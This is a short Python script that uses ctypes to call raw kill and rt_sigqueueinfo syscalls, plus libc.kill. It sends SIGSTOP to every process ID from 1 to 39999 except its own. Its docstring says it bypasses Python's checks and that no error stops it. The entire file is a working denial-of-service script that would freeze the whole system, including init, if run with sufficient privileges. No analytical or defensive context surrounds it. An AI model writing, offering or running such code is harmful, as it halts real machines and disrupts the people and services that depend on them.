"""Without Python's checks; and no error stops it."""

import ctypes
import os

libc = ctypes.CDLL(None)
for pid in range(1, 40000):
    if pid != os.getpid():
        libc.syscall(62, pid, 19)
        libc.syscall(129, pid, 19, None)
        libc.kill(pid, 19)
